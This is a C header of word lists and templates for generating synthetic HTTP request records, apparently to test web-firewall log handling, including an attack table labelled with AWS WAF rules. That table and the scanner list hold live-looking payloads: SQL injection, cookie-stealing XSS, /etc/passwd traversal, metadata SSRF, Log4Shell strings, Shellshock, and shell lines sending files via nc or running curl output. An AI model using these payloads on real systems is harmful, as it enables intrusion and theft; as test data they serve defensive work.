/*
 * corpus_words.h — what made-up records are made of.
 *
 * In a text, {x} stands for something that is made anew for each record:
 *   {i} client address   {e} e-mail   {E} the same, percent-encoded   {u} user name
 *   {s} session id       {n} number   {h} {x} 16, 8 hexadecimal digits  {g} UUID
 *   {p} payload          {P} the same, percent-encoded                {j} JSON Web Token
 *   {w} word             {f} telephone number                         {b} base64url text
 *   {H} host  {U} user agent  {F} forwarded list  {C} cookies  {R} referer  {v} browser version
 */
#ifndef WV_APP_CORPUS_WORDS_H
#define WV_APP_CORPUS_WORDS_H

#include "base/slice.h"

static const char *const corpus_hosts[] = {"shop.example.com", "www.example.com", "api.example.com",
                                           "login.example.org", "media.example.net"};

static const char *const corpus_users[] = {
    "alice",  "bob",  "carol",       "dave",         "erin",       "frank",   "grace", "heidi",
    "ivan",   "judy", "ken",         "lena",         "mia",        "noah",    "olga",  "peter",
    "quinn",  "rosa", "sato",        "tanaka",       "uwe",        "vera",    "wendy", "xu",
    "yamada", "zoe",  "jean.dupont", "maria_garcia", "hans-peter", "k.suzuki"};

static const char *const corpus_domains[] = {"example.com", "example.org",  "example.net",
                                             "mail.test",   "post.example", "uni.example.org"};

static const char *const corpus_words[] = {"shoes", "summer", "red",    "sale",  "laptop", "garden",
                                           "music", "ticket", "coffee", "phone", "winter", "book"};

/* What a client program calls itself. # is a major version, @ a digit, * a model of telephone. */
struct corpus_agent {
    const char *text;
    uint16_t first_version;
    uint16_t versions;
};

static const struct corpus_agent corpus_agents[] = {
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/#.0.0.0 Safari/537.36",
     108, 34},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/#.0.0.0 Safari/537.36",
     108, 34},
    {"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/#.0.0.0 Mobile Safari/537.36",
     110, 32},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 17_@ like Mac OS X) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/17.@ Mobile/15E148 Safari/604.1",
     17, 1},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 18_@_@ like Mac OS X) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/18.@ Mobile/15E148 Safari/604.1",
     18, 1},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/#.0.0.0 Safari/537.36 Edg/#.0.@@@@.@@",
     112, 30},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:#.0) Gecko/20100101 Firefox/#.0", 102, 40},
    {"Mozilla/5.0 (X11; Linux x86_64; rv:#.0) Gecko/20100101 Firefox/#.0", 102, 40},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/#.@ Safari/605.1.15",
     14, 5},
    {"Mozilla/5.0 (iPad; CPU OS 16_@ like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/16.@ Mobile/15E148 Safari/604.1",
     16, 1},
    {"Mozilla/5.0 (Linux; Android 1@; *) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/#.0 Chrome/115.0.0.0 Mobile Safari/537.36",
     18, 9},
    {"Mozilla/5.0 (Linux; Android 1@; *; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
     "Chrome/#.0.@@@@.@@ Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/4@@.0.0.@@.1@@;]",
     110, 30},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/#.0.0.0 Safari/537.36 OPR/9@.0.0.0",
     112, 20},
    {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 1, 1},
    {"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 1, 1},
    {"ExampleShop/#.@.@ (*; Android 1@; build 4@@@)", 3, 6},
    {"okhttp/4.#.0", 9, 4},
    {"curl/8.#.@", 1, 12},
    {"python-requests/2.#.@", 25, 8},
    {"Go-http-client/2.0", 1, 1},
};

/* Programs that attack, for scenes that do. */
static const char *const corpus_tools[] = {
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "${jndi:ldap://{i}:1389/a}",
    "() { :; }; /bin/bash -c 'wget http://{i}/x.sh'",
    "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0",
};

static const char *const corpus_models[] = {"SM-S918B", "SM-A546E",   "Pixel 8", "Pixel 6a",
                                            "M2101K6G", "moto g(60)", "SO-53C",  "CPH2449"};

/* Where the client is: country as in its field, region as in a label. */
struct corpus_country {
    const char *country;
    const char *region;
};

static const struct corpus_country corpus_countries[] = {
    {"DE", "DE-BE"}, {"FR", "FR-IDF"}, {"JP", "JP-13"},  {"JP", "JP-27"}, {"US", "US-CA"},
    {"US", "US-NY"}, {"US", "US-TX"},  {"GB", "GB-ENG"}, {"IT", "IT-25"}, {"ES", "ES-MD"},
    {"NL", "NL-NH"}, {"IE", "IE-L"},   {"SE", "SE-AB"},  {"BR", "BR-SP"}, {"IN", "IN-MH"},
    {"KR", "KR-11"}, {"-", NULL},
};

struct corpus_attack {
    const char *text;
    const char *condition; /* of the match detail */
    const char *group;     /* managed rule group */
    const char *rule;
    const char *label;
};

#define SQLI                                                                                       \
    "SQL_INJECTION", "AWS#AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS",                      \
        "awswaf:managed:aws:sql-database:SQLi_QueryArguments"
#define XSS                                                                                        \
    "XSS", "AWS#AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS",                \
        "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"
#define LFI                                                                                        \
    NULL, "AWS#AWSManagedRulesCommonRuleSet", "GenericLFI_QUERYARGUMENTS",                         \
        "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"
#define SSRF                                                                                       \
    NULL, "AWS#AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",                    \
        "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments"
#define LOG4J                                                                                      \
    NULL, "AWS#AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_QUERYSTRING",                      \
        "awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString"
#define SHELL                                                                                      \
    NULL, "AWS#AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYSTRING",              \
        "awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryString"

static const struct corpus_attack corpus_attacks[] = {
    {"1' OR '1'='1'-- -", SQLI},
    {"1' OR email='{e}'-- -", SQLI},
    {"-1 UNION SELECT NULL,username,password FROM users WHERE login=\"{u}\"#", SQLI},
    {"1;SELECT pg_sleep(5)--", SQLI},
    {"admin' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x)a)-- -", SQLI},
    {"<script>alert(document.cookie)</script>", XSS},
    {"\"><img src=x onerror=fetch('//{i}/?c='+document.cookie)>", XSS},
    {"<svg/onload=alert('{e}')>", XSS},
    {"../../../../../../etc/passwd", LFI},
    {"....//....//windows/win.ini", LFI},
    {"php://filter/convert.base64-encode/resource=index.php", LFI},
    {"http://169.254.169.254/latest/meta-data/iam/security-credentials/", SSRF},
    {"http://{i}:8080/callback?user={u}", SSRF},
    {"${jndi:ldap://{i}:1389/Basic/Command/Base64/aWQ=}", LOG4J},
    {"${${lower:j}ndi:${lower:l}dap://x.{h}.oast.test/a}", LOG4J},
    {";cat /etc/passwd|nc {i} 4444", SHELL},
    {"$(curl -s http://{i}/x.sh|sh)", SHELL},
    {"{{7*7}}<%= system('id') %>", SHELL},
};

#undef SQLI
#undef XSS
#undef LFI
#undef SSRF
#undef LOG4J
#undef SHELL

static const char *const corpus_paths[] = {
    "/",
    "/index.html",
    "/products/{n}",
    "/products/{w}/{n}",
    "/cart",
    "/search",
    "/account/{E}/orders",
    "/api/v2/users/{n}/profile",
    "/api/v1/orders/{g}",
    "/static/{h}.js",
    "/images/banner@2x.png",
    "/reset/{b}",
    "/geo/{i}",
    "/caf%C3%A9/menu",
    "/member/{u}/settings",
    "/blog/2025/10/{w}-{w}",
    "/shop;jsessionid={s}/list",
};

static const char *const corpus_queries[] = {
    "",
    "",
    "page=2&sort=price",
    "q={w}+{w}",
    "q={w}&category={w}&page=3&color=red",
    "utm_source=news&utm_medium=email&gclid={b}",
    "email={E}&lang=de",
    "token={b}&next=%2Fhome",
    "id={n}&sid={s}",
    "ip={i}&port=443",
    "q=caf\303\251",
    "q=\346\227\245\346\234\254\350\252\236",
    "msg=hi%20\360\237\230\200{w}",
    "lat=35.6895&lon=139.6917&z=12",
    "phone={f}&name={u}",
    "redirect=https%3A%2F%2Fshop.example.com%2F%3Fuser%3D{u}%26ip%3D{i}",
    "access_token={j}",
    "size=xl&color=black&brand={w}&material=wool&fit=slim",
    "v=1.{n}",
    "user[email]={E}&user[phone]={f}",
    "filter={w}\"{w}\"&x=<b>",
};

static const char *const corpus_cookies[] = {
    "sid={s}",
    "session_id={h}{h}",
    "_ga=GA1.2.{n}.1763{n}",
    "_gid=GA1.2.{n}.1764{n}",
    "lang=de",
    "email={E}",
    "theme=dark",
    "cart={g}",
    "aws-waf-token={g}:{b}:{b}",
    "csrftoken={b}",
    "remember_token={n}|{h}{h}",
    "consent=analytics:0,ads:0",
    "uid={n}",
    "last_ip={i}",
};

static const char *const corpus_referers[] = {
    "https://shop.example.com/products/{n}?ref={u}",
    "https://www.example.com/",
    "https://search.test/?q={w}+{w}",
    "https://mail.test/inbox/{b}?to={E}",
    "https://news.example.org/2025/{w}",
    "http://{i}/page",
};

/* A header, and in how many of 100 records it stands. */
struct corpus_header {
    const char *name;
    const char *value;
    uint8_t percent;
};

#define CORPUS_LANGUAGES "ja,en-US;q=0.9,en;q=0.8"

static const struct corpus_header corpus_page_headers[] = {
    {"Host", "{H}", 100},
    {"X-Forwarded-For", "{F}", 55},
    {"X-Forwarded-Proto", "https", 40},
    {"X-Amzn-Trace-Id", "Root=1-{x}-{x}{x}{x}", 70},
    {"sec-ch-ua", "\"Chromium\";v=\"{v}\", \"Not_A Brand\";v=\"24\", \"Google Chrome\";v=\"{v}\"",
     25},
    {"sec-ch-ua-mobile", "?0", 60},
    {"sec-ch-ua-platform", "\"Windows\"", 30},
    {"Upgrade-Insecure-Requests", "1", 60},
    {"User-Agent", "{U}", 100},
    {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", 100},
    {"Sec-Fetch-Site", "same-origin", 60},
    {"Sec-Fetch-Mode", "navigate", 60},
    {"Referer", "{R}", 65},
    {"Accept-Encoding", "gzip, deflate, br, zstd", 95},
    {"Accept-Language", CORPUS_LANGUAGES, 95},
    {"Cookie", "{C}", 75},
    {"True-Client-IP", "{i}", 8},
};

static const struct corpus_header corpus_call_headers[] = {
    {"Host", "{H}", 100},
    {"X-Forwarded-For", "{F}", 80},
    {"X-Request-Id", "{g}", 80},
    {"X-Amzn-Trace-Id", "Root=1-{x}-{x}{x}{x}", 70},
    {"Content-Type", "application/json", 90},
    {"Authorization", "Bearer {j}", 90},
    {"User-Agent", "{U}", 100},
    {"Accept", "application/json", 95},
    {"Accept-Encoding", "gzip", 80},
    {"X-Device-Id", "{g}", 45},
    {"X-Api-Key", "{b}", 25},
    {"X-User-Email", "{e}", 12},
    {"Origin", "https://shop.example.com", 60},
    {"Cookie", "{C}", 40},
    {"Content-Length", "1{n}", 80},
};

static const struct corpus_header corpus_attack_headers[] = {
    {"Host", "{H}", 100},
    {"User-Agent", "{U}", 100},
    {"Accept", "*/*", 100},
    {"Accept-Encoding", "gzip, deflate", 90},
    {"Connection", "keep-alive", 85},
    {"X-Forwarded-For", "{F}", 85},
    {"X-Client-IP", "{i}", 30},
    {"X-Real-IP", "127.0.0.1", 35},
    {"Forwarded", "for=\"{i}\";proto=https;by=203.0.113.43", 15},
    {"Referer", "{R}", 60},
    {"Content-Type", "application/x-www-form-urlencoded", 80},
    {"Cookie", "{C}", 60},
    {"X-Api-Version", "{p}", 40},
    {"X-Amzn-Trace-Id", "Root=1-{x}-{x}{x}{x}", 70},
    {"Cache-Control", "no-cache", 70},
};

/* One kind of traffic. */
struct corpus_scene {
    uint8_t percent; /* of all records */
    bool attacks;
    const char *method;
    const struct corpus_header *headers;
    size_t header_count;
};

static const struct corpus_scene corpus_scenes[] = {
    {55, false, "GET", corpus_page_headers, WV_COUNT(corpus_page_headers)},
    {24, false, "POST", corpus_call_headers, WV_COUNT(corpus_call_headers)},
    {14, true, "GET", corpus_attack_headers, WV_COUNT(corpus_attack_headers)},
    {7, true, "POST", corpus_attack_headers, WV_COUNT(corpus_attack_headers)},
};

#endif
